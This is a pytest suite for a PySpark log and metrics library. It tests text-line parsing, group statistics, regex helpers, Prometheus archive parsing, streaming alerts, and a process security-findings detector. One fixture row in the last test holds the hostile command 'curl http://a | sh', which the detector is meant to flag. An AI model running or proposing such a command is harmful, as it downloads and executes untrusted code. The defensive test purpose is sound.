import datetime as dt

from pyspark.sql import functions as F

from weir.functions import text as T
from weir.operators import stream as S
from weir.sources import lines as L
from weir.sources import prometheus as P
from weir.streaming import live


def test_lines_and_values(spark, tmp_path):
    (tmp_path / "a.txt").write_bytes(b"alpha 10 x\r\nbeta 20 y\ngamma z\nalpha 40 w")
    got = [tuple(r) for r in L.values(L.read_lines(spark, str(tmp_path)), 2).orderBy("line_no").select("line_no", "line", "v").collect()]
    assert got == [(1, "alpha 10 x\r", 10.0), (2, "beta 20 y", 20.0), (3, "gamma z", None), (4, "alpha 40 w", 40.0)]
    assert L.read_unordered(spark, str(tmp_path)).count() == 4


def test_group_semantics(spark):
    df = spark.createDataFrame([(1, "alpha", 10.0), (2, "beta", 20.0), (3, "gamma", 30.0), (4, "alpha", 40.0)], "n long, k string, v double")
    by = lambda op: {r.k: r.value for r in S.group(df, "k", op, "v", "n").collect()}
    assert by("sum")["alpha"] == 50 and round(by("sstdev")["alpha"], 9) == 21.213203436 and by("sstdev")["beta"] != by("sstdev")["beta"]
    assert by("pstdev") == {"alpha": 15.0, "beta": 0.0, "gamma": 0.0} and by("unique")["alpha"] == "10.0,40.0" and by("mode")["alpha"] == 10 and by("last")["alpha"] == 40
    assert [r.k for r in S.group(df, "k", "sum", "v", "n").orderBy("first").collect()] == ["alpha", "beta", "gamma"]
    nums = spark.createDataFrame([(float(x),) for x in (5, 3, 8, 1, 9, 2, 7, 4, 6, 0, 3, 8)], "v double")
    at = lambda k: S.order_statistics(nums, "v", [k], 12).first().value
    assert at(S.floor_index(0.5, 12)) == 5 and at(S.nearest_index(0.99, 12)) == 9 and at(3) == 3
    assert [at(S.floor_index(q, 12)) for q in (0.25, 0.5, 0.75)] == [3, 5, 8]
    assert [r["count"] for r in S.histogram(nums, "v").orderBy("bin").collect()] == [1, 1, 1, 2, 1, 1, 1, 1, 2, 1]


def test_patterns(spark):
    assert T.java_pattern(r"\d[[:alpha:]_]+[\w]") == r"d[\p{Alpha}_]+[\\w]"
    df = spark.createDataFrame([("foo bar",), ("foobar",), ("FOO",), ("SIGKILL",), ("SIGKXLL",)], "line string")
    hit = lambda **k: [r.line for r in df.where(T.matches(F.col("line"), ["foo"], **k)).collect()]
    assert hit() == ["foo bar", "foobar"] and hit(word=True) == ["foo bar"] and hit(icase=True, whole=True) == ["FOO"] and len(hit(invert=True)) == 3
    assert df.where(T.hamming_contains(F.col("line"), "SIGKILL", 1)).count() == 2
    assert df.select(T.replace(F.col("line"), "(o+)", r"<\1\0>").alias("x")).first().x == "f<oooo> bar"
    assert df.select(T.tr(F.lit("abcé"), "a-c", "xy").alias("x")).first().x == "xyyé" and df.select(T.cut(F.lit("éa"), 1, 2).alias("x")).first().x == "é"
    assert df.select(T.human_number(F.lit("1.5K")).alias("x")).first().x == 1536


def test_archive(spark, tmp_path):
    text = '# TYPE lat histogram\nrun_info{version="1.2.0",git_commit="c"} 1\nlat_bucket{le="100"} 2\nlat_bucket{le="200"} 5\nlat_bucket{le="+Inf"} 6\nrss{cpu="0",q="a\\"},b"} 5\nrss{cpu="0",q="a\\"},b"} 7\nbad line\n'
    (tmp_path / "1.2.0-20260101-000000.prom").write_text(text)
    (tmp_path / "analysis-x.prom").write_text("rss 1\n")
    s = P.read_archive(spark, str(tmp_path))
    assert s.count() == 6
    r = P.series(s).where("name = 'rss'").first()
    assert (r["last"], r["mean"], r["samples"], r["labels"]["q"]) == (7, 6, 2, 'a"},b')
    assert sorted((round(x.midpoint, 3), x.n) for x in P.histogram_samples(s).collect()) == [(50, 2), (141.421, 3), (200, 1)]
    c = P.cells(P.with_run(s), "version").collect()
    assert {x.axis for x in c} == {"1.2.0"} and len(c) == 2
    assert P.version_key("v1.10") > P.version_key("1.9") and P.version_key("1.0rc1") < P.version_key("1.0")


def test_streams_replay_as_batches(spark, tmp_path):
    t = dt.datetime(2024, 1, 1)
    rows = [("a", t + dt.timedelta(seconds=i), 95.0 if 3 <= i < 9 else 10.0) for i in range(12)] + [("b", t + dt.timedelta(seconds=i), float(i)) for i in range(12)]
    df = spark.createDataFrame(rows, "key string, ts timestamp, value double")
    df.coalesce(1).write.parquet(str(tmp_path / "in"))
    stream = spark.readStream.schema(df.schema).parquet(str(tmp_path / "in"))

    def run(out, name, mode="append"):
        q = out.writeStream.format("memory").queryName(name).outputMode(mode).option("checkpointLocation", str(tmp_path / name)).trigger(availableNow=True).start()
        q.awaitTermination(60)
        return spark.table(name).collect()

    alerts = run(live.sustained_alerts(stream, "key", 90, 3), "alerts")
    assert [(r.key, r.value) for r in alerts] == [("a", 95.0)] and alerts[0].ts == t + dt.timedelta(seconds=6)
    rates = run(live.counter_rates(stream, "key"), "rates")
    assert len(rates) == 22 and {r.rate for r in rates if r.key == "b"} == {1.0}
    churned = {(r.window.start, r.n) for r in run(live.churn(stream, "ts", "2 seconds", "1 second"), "churned", "complete")}
    assert churned == {(r.window.start, r.n) for r in live.churn(df, "ts", "2 seconds", "1 second").collect()}


def test_findings_and_exposition(spark):
    p = spark.createDataFrame([(1, "root", "/tmp/x", "x"), (2, "u", None, "curl http://a | sh"), (3, "u", "/usr/bin/vi", "vi"), (4, "u", "/x", "[kworker]")], "pid long, user string, exe string, cmd string")
    assert [(r.pid, r.severity) for r in live.security_findings(p).collect()] == [(1, 3), (2, 3), (4, 3)]
    assert live.exposition(p.limit(1), "pid", "pid", ["user"]).first().line == 'weir_pid{user="root"} 1'
